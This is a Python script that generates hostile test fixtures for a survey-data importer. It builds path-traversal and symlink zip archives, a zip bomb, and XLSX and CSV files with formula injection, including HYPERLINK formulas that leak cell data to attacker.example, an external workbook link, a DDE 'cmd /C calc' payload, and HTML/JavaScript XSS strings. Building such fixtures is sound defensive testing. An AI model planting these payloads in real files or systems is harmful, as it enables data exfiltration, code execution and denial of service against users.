# SPDX-License-Identifier: GPL-3.0-or-later
"""Build the hostile test files of this folder (run it again to rebuild them all).

Every file is small on disk; what it would do if trusted is in HOSTILE.md.
Written with the standard library only, so the files are exactly what is described.
"""

from __future__ import annotations

import stat
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CSV_HEADER = "respondent_name;phone;note\n"


def _zip(name: str, members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> None:
    with zipfile.ZipFile(HERE / name, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            archive.writestr(info, data)


def zip_files() -> None:
    survey = (CSV_HEADER + "Awa;+236 72 00 00 00;ok\n").encode()
    _zip("zip_slip.zip", [("survey.csv", survey), ("../../cartong_zip_slip.txt", b"escaped")])
    _zip("zip_absolute.zip", [("survey.csv", survey), ("/tmp/cartong_zip_absolute.txt", b"escaped")])
    _zip("zip_windows_drive.zip", [("survey.csv", survey), ("C:/cartong_zip_drive.txt", b"escaped")])
    link = zipfile.ZipInfo("passwd_link")
    link.create_system = 3  # Unix, so the mode bits are read
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    _zip("zip_symlink.zip", [("survey.csv", survey), (link, b"/etc/passwd")])
    # 64 MiB of zeros compress to about 64 KiB: a (small) zip bomb, ratio ~1000
    bomb = zipfile.ZipInfo("survey.csv")
    bomb.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(HERE / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive, archive.open(bomb, "w") as out:
        for _ in range(64):
            out.write(b"\0" * (1024 * 1024))
    _zip(
        "odd_names.zip",
        [
            ("CON.csv", survey),
            ("rapport: final?.csv", survey),
            ("sous<dossier>/nul.txt", b"x"),
            (".hidden.csv", survey),
        ],
    )
    _zip("zip_duplicate_names.zip", [("survey.csv", survey), ("Survey.csv", b"replaced")])
    _zip("good_export.zip", [("survey.csv", survey), ("media/photo 1.jpg", b"\xff\xd8\xff")])


SML = b"application/vnd.openxmlformats-officedocument.spreadsheetml"
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="SML.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="SML.worksheet+xml"/>
%s</Types>""".replace(b"SML", SML)
ROOT_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="REL/officeDocument" Target="xl/workbook.xml"/>
</Relationships>""".replace(b"REL", REL)
WORKBOOK = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="REL">
<sheets><sheet name="survey" sheetId="1" r:id="rId1"/></sheets>%s
</workbook>""".replace(b"REL", REL)
WORKBOOK_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="REL/worksheet" Target="worksheets/sheet1.xml"/>
%s</Relationships>""".replace(b"REL", REL)
SHEET = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>respondent_name</t></is></c>
<c r="B1" t="inlineStr"><is><t>hh_size</t></is></c><c r="C1" t="inlineStr"><is><t>note</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>Awa</t></is></c><c r="B2"><v>4</v></c>%s</row>
</sheetData></worksheet>"""


def _xlsx(name: str, sheet_extra: bytes, external: bool) -> None:
    members = [
        (
            "[Content_Types].xml",
            CONTENT_TYPES
            % (
                b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>\n'
                if external
                else b""
            ),
        ),
        ("_rels/.rels", ROOT_RELS),
        (
            "xl/workbook.xml",
            WORKBOOK
            % (b'<externalReferences><externalReference r:id="rId2"/></externalReferences>' if external else b""),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            WORKBOOK_RELS
            % (
                b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>\n'
                if external
                else b""
            ),
        ),
        ("xl/worksheets/sheet1.xml", SHEET % sheet_extra),
    ]
    if external:
        members += [
            (
                "xl/externalLinks/externalLink1.xml",
                (
                    b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
                ),
            ),
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                (
                    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/externalLinkPath" '
                    b'Target="http://attacker.example/collect.xlsx" TargetMode="External"/></Relationships>'
                ),
            ),
        ]
    _zip(name, members)


def xlsx_files() -> None:
    _xlsx(
        "xlsx_formulas.xlsx",
        b'<c r="C2" t="str"><f>HYPERLINK("http://attacker.example/?leak="&amp;A2,"details")</f>'
        b'<v>details</v></c><c r="D2"><f>B2*2</f><v>8</v></c>',
        external=False,
    )
    _xlsx("xlsx_external_link.xlsx", b'<c r="C2"><f>[1]Sheet1!A1</f><v>0</v></c>', external=True)
    _xlsx(
        "xlsx_values_only.xlsx",
        b'<c r="C2" t="inlineStr"><is><t>=not a formula, typed text</t></is></c>',
        external=False,
    )


def text_files() -> None:
    rows = [
        "respondent_name;phone;note",
        '=HYPERLINK("http://attacker.example/?x="&A3,"click");+236 72 11 22 33;-2+3',
        "@SUM(1+1)*cmd|' /C calc'!A0;-12.5;\t=1+1",
        "Awa;+23672112233;\r=1+1",
    ]
    (HERE / "formula_cells.csv").write_bytes(("\n".join(rows) + "\n").encode())
    html_rows = [
        "respondent_name;village;note",
        "Awa;<svg onload=alert('village')>;<script>alert(document.cookie)</script>",
        'Jean;<img src=x onerror=alert(1)>;<b>bold</b> &amp; <a href="javascript:alert(1)">lien</a>',
    ]
    (HERE / "html_in_text.csv").write_bytes(("\n".join(html_rows) + "\n").encode())


if __name__ == "__main__":
    zip_files()
    xlsx_files()
    text_files()
